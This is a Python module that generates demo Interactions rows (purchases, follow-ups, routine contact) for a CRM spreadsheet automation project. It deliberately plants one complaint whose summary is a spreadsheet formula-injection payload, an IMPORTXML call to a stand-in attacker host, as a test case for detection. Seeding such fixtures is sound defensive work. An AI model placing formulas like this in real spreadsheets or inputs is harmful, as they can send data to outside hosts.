"""The demo's Interactions rows: purchases of won deals, follow-ups, a year of contact.

Also mistake 9 of the demo: a complaint whose summary is a formula (see
:mod:`automations.demo.generate`).
"""

from __future__ import annotations

import random
from datetime import date, datetime, timedelta

from automations.demo.customers import Customer
from automations.demo.deals import Deal
from automations.demo.typed_cells import (
    UNNUMBERED_DAYS,
    maybe_text_amount,
    maybe_text_date,
    random_day,
    working_time,
)
from automations.rules.ids import format_id

IMPORTXML = '=IMPORTXML("http://evil.example","//a")'

_KINDS = ("Call", "Email", "Meeting", "Note", "Complaint")
_KIND_WEIGHTS = (0.35, 0.30, 0.15, 0.17, 0.03)
_SUMMARIES = {
    "Call": (
        "Called to check on the project; happy so far.",
        "Left a voicemail, will try again.",
        "Asked about prices for next year.",
        "Llamada: quiere ampliar el servicio.",
        "Discussed timeline and next steps.",
    ),
    "Email": (
        "Sent the quote by email.",
        "Replied to questions about hosting.",
        "Sent invoice and payment details.",
        "Enviado o orçamento revisto.",
        "Shared the design drafts.",
    ),
    "Meeting": (
        "Kick-off meeting at their office.",
        "Video call to review the first draft.",
        "Reunión para presentar la propuesta.",
        "Workshop with their marketing team.",
    ),
    "Note": (
        "Prefers to be contacted in the morning.",
        "Decision maker is the owner, not the office manager.",
        "Budget approved for Q3.",
        "Cliente muy satisfecho, posible referencia.",
    ),
    "Complaint": (
        "Site was down for two hours, customer upset.",
        "Invoice amount does not match the quote.",
        "La web tarda mucho en cargar.",
        "Emails from the contact form are not arriving.",
    ),
}
_PURCHASE_SUMMARIES = ("Paid invoice", "Purchase", "Renewal paid", "Extra work paid")


def generate_interactions(
    rng: random.Random, people: list[Customer], deals: list[Deal], count: int, today: date
) -> list[dict[str, object]]:
    """About ``count`` Interactions rows, oldest first: purchases, follow-ups, everyday contact."""
    records: list[tuple[datetime, dict[str, object]]] = []
    for deal in deals:
        if deal.stage != "Won" or deal.closed is None:
            continue
        buys = [(deal.closed, deal.value, deal.row_id)]
        if rng.random() < 0.3:  # a repeat buyer
            for _ in range(rng.randint(1, 3)):
                day = random_day(rng, deal.closed, deal.customer.last_active)
                buys.append((day, round(deal.value * rng.uniform(0.1, 0.5), -1), None))
        for day, amount, deal_id in buys:
            records.append(
                _interaction(
                    rng, deal.customer, "Purchase", working_time(rng, day), deal_id, amount
                )
            )
    # Calls and emails about most open deals of customers who are not dormant, in the last few
    # days: those deals were followed up in time, the others are overdue.
    for deal in deals:
        customer = deal.customer
        if deal.closed is not None or not (deal.row_id and deal.linkable):
            continue
        if customer.last_active >= today - timedelta(days=60) and rng.random() < 0.7:
            day = max(deal.created, today - timedelta(days=rng.randint(1, 4)))
            customer.last_active = max(customer.last_active, day)
            kind = rng.choice(("Call", "Email", "Meeting"))
            records.append(
                _interaction(rng, deal.customer, kind, working_time(rng, day), deal.row_id, None)
            )
    numbered = [p for p in people if p.row_id is not None]
    year_ago = today - timedelta(days=365)
    for _ in range(max(0, count - len(records) - 1)):
        customer = rng.choice(numbered)
        kind = rng.choices(_KINDS, weights=_KIND_WEIGHTS)[0]
        day = random_day(rng, max(customer.created, year_ago), customer.last_active)
        records.append(_interaction(rng, customer, kind, working_time(rng, day), None, None))
    # A complaint sent through the web form by a customer, with a formula in it.
    victim = rng.choice(numbered)
    moment = working_time(
        rng, random_day(rng, today - timedelta(days=20), today - timedelta(days=1))
    )
    injected = _interaction(rng, victim, "Complaint", moment, None, None)[1]
    injected.update(summary=IMPORTXML, manager=None, answered=None)
    records.append((moment, injected))
    records.sort(key=lambda r: r[0])
    number = 0
    for moment, row in records:
        if moment.date() <= today - timedelta(days=UNNUMBERED_DAYS):
            number += 1
            row["id"] = format_id("I", number)
    return [row for _, row in records]


def _interaction(
    rng: random.Random,
    customer: Customer,
    kind: str,
    moment: datetime,
    deal_id: str | None,
    amount: float | None,
) -> tuple[datetime, dict[str, object]]:
    if kind == "Purchase":
        summary = rng.choice(_PURCHASE_SUMMARIES)
    else:
        summary = rng.choice(_SUMMARIES[kind])
    answered: object = None
    if kind == "Complaint":
        answered = rng.choices((True, False, None), weights=(0.6, 0.2, 0.2))[0]
    return moment, {
        "id": None,
        "date": maybe_text_date(rng, moment),
        "customer_id": customer.row_id,
        "deal_id": deal_id,
        "kind": kind,
        "manager": customer.manager,
        "summary": summary,
        "amount": maybe_text_amount(rng, amount) if amount is not None else None,
        "answered": answered,
    }
